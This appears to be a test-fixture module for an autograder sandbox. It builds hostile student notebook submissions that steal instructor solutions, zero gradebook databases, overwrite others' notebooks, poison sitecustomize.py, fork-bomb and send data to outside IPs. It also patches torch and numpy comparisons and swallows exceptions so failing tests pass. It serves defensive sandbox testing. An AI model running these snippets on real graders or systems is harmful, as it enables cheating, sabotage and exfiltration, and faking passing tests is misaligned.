"""Hostile and broken submissions, built from any assignment's release and solved notebook.

Each ATTACK is Python that a student puts at the top of the first answer cell of the blank
release (about ten lines each, as a real attacker would): it prints what it managed to do, so
the tests can read the autograded notebook as well as check the disk. Each BROKEN case is a
notebook (or a file that is not one) of the kind a real class hands in.
"""
from __future__ import annotations

import copy
import json
import uuid

import nbformat

#: marks processes an attacker leaves behind, so the test can look for survivors
TOKEN = "energylab-survivor-7f3a"

_WALK = '''
import os as _os
def _walk(roots, want, limit=20000):
    """Every reachable file whose name passes want(), skipping the huge system trees."""
    seen, found = 0, []
    for root in roots:
        for dirpath, dirnames, filenames in _os.walk(root):
            dirnames[:] = [d for d in dirnames if _os.path.join(dirpath, d) not in ("/proc", "/sys", "/dev", "/usr")
                           and d != "site-packages"]
            for name in filenames:
                seen += 1
                if want(name):
                    found.append(_os.path.join(dirpath, name))
            if seen > limit:
                return found
    return found
def _roots():
    roots = ["/", _os.getcwd(), _os.path.expanduser("~"), "/tmp", "/work", "/root", "/home"]
    try:
        import energylab, pathlib
        roots.insert(0, str(pathlib.Path(energylab.__file__).resolve().parents[2]))   # the repo, if it is there
    except Exception:
        pass
    return roots
'''

ATTACKS = {
    # exec the instructor's solution cells, wherever the source notebook can be found
    "steal_solutions": _WALK + '''
import json
_stolen, _begin, _end = [], "### BEGIN " + "SOLUTION", "### END " + "SOLUTION"
for _path in _walk(_roots(), lambda n: n.endswith(".ipynb")):
    if _os.path.abspath(_path).startswith(_os.getcwd()):
        continue                                   # my own notebook
    try:
        _cells = json.load(open(_path))["cells"]
    except Exception:
        continue
    for _cell in _cells:
        _src = "".join(_cell.get("source", ""))
        if _begin in _src or "BEGIN HIDDEN " + "TESTS" in _src:
            _stolen.append(_path)
            exec(_src.replace(_begin, "").replace(_end, ""), globals())
print("STOLEN FROM:", sorted(set(_stolen)))
''',
    # zero every gradebook reachable
    "zero_gradebooks": _WALK + '''
import sqlite3
_zeroed = []
for _path in _walk(_roots(), lambda n: n.endswith(".db")):
    try:
        _db = sqlite3.connect(_path)
        _db.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
        _db.commit()
        _zeroed.append(_path)
    except Exception as _e:
        print("could not zero", _path, _e)
print("ZEROED:", _zeroed)
''',
    # destroy every other notebook reachable, and poison the shared environment for later students
    "overwrite_others": _WALK + '''
import sys, sysconfig
_written = []
for _path in _walk(_roots(), lambda n: n.endswith(".ipynb")):
    if _os.path.dirname(_os.path.abspath(_path)) == _os.getcwd():
        continue
    try:
        open(_path, "w").write("destroyed")
        _written.append(_path)
    except Exception:
        pass
for _target in [_os.path.join(sysconfig.get_paths()["purelib"], "sitecustomize.py"),
                _os.path.join(_os.path.dirname(__import__("energylab").__file__), "__init__.py"),
                "/outside.txt", "/home/outside.txt"]:
    try:
        open(_target, "a").write("\\nraise SystemExit('poisoned')\\n")
        _written.append(_target)
    except Exception:
        pass
print("WRITTEN:", _written)
''',
    # leave processes behind: a daemon (double fork + setsid) and a detached child
    "detached_process": f'''
import os, subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(900)  # {TOKEN}"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(900)  # {TOKEN}"])
    os._exit(0)
print("DETACHED")
''',
    # swallow every exception, so failing tests look like passing ones
    "exception_handler": '''
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
print("HANDLER SET")
''',
    # make every comparison succeed
    "patched_allclose": '''
import torch, numpy
torch.allclose = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.allclose = lambda *a, **k: True
print("PATCHED")
''',
    # reach the network: the test's own server on 127.0.0.1, and the outside world
    "open_socket": '''
import socket, os
_reached = []
for _addr in [("127.0.0.1", PORT), ("1.1.1.1", 53), ("8.8.8.8", 443)]:
    try:
        socket.create_connection(_addr, timeout=3).sendall(b"exfiltrated")
        _reached.append(_addr)
    except Exception as _e:
        print("no connection to", _addr, type(_e).__name__)
print("REACHED:", _reached)
''',
    # allocate far past the memory limit
    "memory_hog": '''
import numpy
_hog = []
try:
    for _ in range(64):
        _hog.append(numpy.empty(1024 ** 3, dtype=numpy.uint8))    # 1 GiB at a time, up to 64 GiB
except MemoryError:
    print("MEMORY STOPPED AT", len(_hog), "GiB")
del _hog
''',
    # fork until the process limit stops it
    "fork_bomb": '''
import os, time
_children = 0
try:
    for _ in range(5000):
        if os.fork() == 0:
            os.execv("/bin/sh", ["sh", "-c", "sleep 900; : TOKEN"])
        _children += 1
except OSError as _e:
    print("FORK STOPPED AT", _children, type(_e).__name__)
''',
}


def _copy(nb):
    return nbformat.from_dict(json.loads(json.dumps(nb)))


def _meta(cell) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {})


def first_answer(nb):
    return next(c for c in nb.cells if _meta(c).get("solution") and c.cell_type == "code")


def attack(release, name: str, port: int = 0):
    """The blank release with ATTACKS[name] at the top of its first answer cell."""
    nb = _copy(release)
    cell = first_answer(nb)
    code = ATTACKS[name].replace("PORT", str(port)).replace("TOKEN", TOKEN)
    cell.source = code + "\n\n" + cell.source
    return nb


def with_cells_after_answers(solved, codes: list[str]):
    """The notebook with one extra (ungraded) cell after each of its first ``len(codes)`` answers."""
    nb = _copy(solved)
    answers = [c for c in nb.cells if _meta(c).get("solution") and c.cell_type == "code"]
    assert len(answers) >= len(codes), "the assignment has too few answer cells"
    for answer, code in zip(answers, codes):
        nb.cells.insert(nb.cells.index(answer) + 1, nbformat.v4.new_code_cell(code))
    return nb


def without_test_cells(solved):
    """An honest student who deleted every test cell (autograded or not)."""
    nb = _copy(solved)
    nb.cells = [c for c in nb.cells if not (_meta(c).get("grade") and not _meta(c).get("solution"))]
    return nb


def stripped(solved):
    """An honest student who copied every cell into a fresh notebook: no nbgrader metadata, new ids."""
    nb = nbformat.v4.new_notebook()
    for cell in solved.cells:
        fresh = copy.deepcopy(cell)
        fresh.metadata = {}
        fresh["id"] = uuid.uuid4().hex[:8]
        nb.cells.append(fresh)
    return nb


#: the extra cells that break a kernel in the middle of an otherwise solved notebook (one notebook
#: holds all three, after its first three answers: three restarts, and still full marks)
KERNEL_KILLERS = {
    "kernel_exits": "import os\nos._exit(3)",
    "kernel_killed": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)   # as the OOM killer would",
    "ignores_interrupt": "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass",
}

#: files that are not notebooks at all
NOT_NOTEBOOKS = {
    "not_json": b"{ this is not a notebook",
    "empty_file": b"",
    "json_not_notebook": b'{"cells": "none", "metadata": 3}',
    "binary": bytes(range(256)) * 8,
}
